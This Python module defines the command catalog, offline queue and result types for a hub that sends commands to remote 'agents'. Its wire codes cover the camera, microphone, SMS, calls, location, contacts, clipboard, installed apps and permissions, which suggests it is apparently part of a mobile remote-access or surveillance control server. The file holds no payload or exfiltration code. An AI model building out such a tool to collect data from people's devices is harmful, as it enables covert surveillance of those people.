"""Command catalog, queue entries and command results."""

from __future__ import annotations

import enum
from datetime import datetime
from typing import Any

from pydantic import BaseModel, ConfigDict, Field

from agenthub.exceptions import CommandError, CommandErrorCode
from agenthub.models._base import HubBaseModel, utcnow


class CommandKind(enum.StrEnum):
    """Message-kind codes shared by outbound commands and inbound telemetry.

    The same short code is used in both directions; the direction decides
    whether it is a request to the agent or data pushed by it.
    """

    CAMERA = "0xCA"
    FILES = "0xFI"
    CALL = "0xCL"
    SMS = "0xSM"
    MIC = "0xMI"
    LOCATION = "0xLO"
    CONTACTS = "0xCO"
    WIFI = "0xWI"
    NOTIFICATION = "0xNO"
    CLIPBOARD = "0xCB"
    INSTALLED_APPS = "0xIN"
    PERMISSIONS = "0xPM"
    PERMISSION_GRANTED = "0xGP"

    @classmethod
    def parse(cls, value: CommandKind | str) -> CommandKind:
        """Resolve a wire code (``"0xSM"``) or catalog name (``"sms"``).

        Raises
        ------
        ValueError
            *value* names no catalog entry.
        """
        if isinstance(value, CommandKind):
            return value
        text = str(value).strip()
        try:
            return cls(text)
        except ValueError:
            pass
        member = cls.__members__.get(text.upper().replace("-", "_"))
        if member is None:
            raise ValueError(f"Unknown command kind: {value!r}")
        return member


class DeliveryOutcome(enum.StrEnum):
    """What happened to an accepted command.

    ``SENT`` means handed to the transport, not executed by the agent.
    """

    SENT = "sent"
    QUEUED = "queued"


class QueuedCommand(HubBaseModel):
    """A command waiting for its agent to reconnect."""

    uid: str
    kind: CommandKind
    payload: dict[str, Any] = Field(default_factory=dict)
    enqueued_at: datetime = Field(default_factory=utcnow)


class CommandResult(BaseModel):
    """Outcome of :meth:`agenthub.hub.AgentHub.send_command`.

    Exactly one of ``outcome`` and ``error`` is set.
    """

    model_config = ConfigDict(frozen=True)

    outcome: DeliveryOutcome | None = None
    error: CommandErrorCode | None = None
    message: str = ""
    field: str | None = None

    @property
    def success(self) -> bool:
        return self.error is None

    @classmethod
    def sent(cls) -> CommandResult:
        return cls(outcome=DeliveryOutcome.SENT, message="Requested")

    @classmethod
    def queued(cls) -> CommandResult:
        return cls(outcome=DeliveryOutcome.QUEUED, message="Command queued (agent is offline)")

    @classmethod
    def failed(cls, code: CommandErrorCode, message: str, *, field: str | None = None) -> CommandResult:
        return cls(error=code, message=message, field=field)

    @classmethod
    def from_error(cls, exc: CommandError) -> CommandResult:
        return cls.failed(exc.code, str(exc), field=exc.field)
